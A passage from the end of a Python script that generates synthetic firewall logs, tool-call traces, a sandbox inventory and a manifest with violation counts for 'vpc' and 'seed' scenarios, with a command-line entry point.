                pa.array((caused_start >= bounds[k]) & (caused_start < bounds[k + 1]))
            )
            block = pa.concat_tables([background, inbound, mine])
            order = np.argsort(block.column("start").to_numpy(), kind="stable")
            fh.write(cfw_lines(block.take(order), rng, gateways))


def generate_seed(size: str, out: Path) -> None:
    """The seed-shaped scenario (see the module docstring)."""
    n_records, n_calls = SEED_SIZES[size]
    rng = np.random.default_rng(SEED + 11)
    out.mkdir(parents=True, exist_ok=True)
    calls, commands, caused = seed_calls(rng, n_calls)
    names, private_ips, _, _ = seed_hosts()
    write_cfw(out / CFW_FILE, n_records, caused, rng)
    write_otlp(
        out / "calls" / "traces.jsonl",
        calls,
        names,
        private_ips,
        np.array([f"toolu_{i:08x}" for i in range(n_calls)]),
        commands,
        lambda i, h: f"ep-{h:03d}-{(calls['start'][i] // 10**9 - SEED_T0) // 900}",
        "run-seed",
        calls["exit_code"],
    )
    listed = np.setdiff1d(np.arange(SEED_SANDBOXES), np.array(LATE_SANDBOXES))
    write_inventory(out / "inventory.csv", names[listed], private_ips[listed])
    violations = pc.sum(pc.is_in(caused.column("rule_result"), pa.array(["drop", "alert"])))
    write_manifest(
        out,
        scenario="seed",
        size=size,
        cfw_records=n_records,
        calls=n_calls,
        sandboxes=SEED_SANDBOXES,
        violations=violations.as_py(),
        planted_episodes=sum(p.episodes for p in PLANTS),
        caused_allowed=caused.num_rows - violations.as_py(),
        seed=SEED + 11,
    )


SCENARIOS = {"vpc": (generate_vpc, SIZES), "seed": (generate_seed, SEED_SIZES)}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--scenario", choices=sorted(SCENARIOS), default="vpc")
    parser.add_argument("--size", choices=("XS", "S", "M"), default="S")
    parser.add_argument("--out", type=Path, required=True)
    args = parser.parse_args()
    t = time.perf_counter()
    SCENARIOS[args.scenario][0](args.size, args.out)
    print(
        f"generated {args.scenario} size {args.size} in {args.out} in {time.perf_counter() - t:.1f}s"
    )


if __name__ == "__main__":
    main()
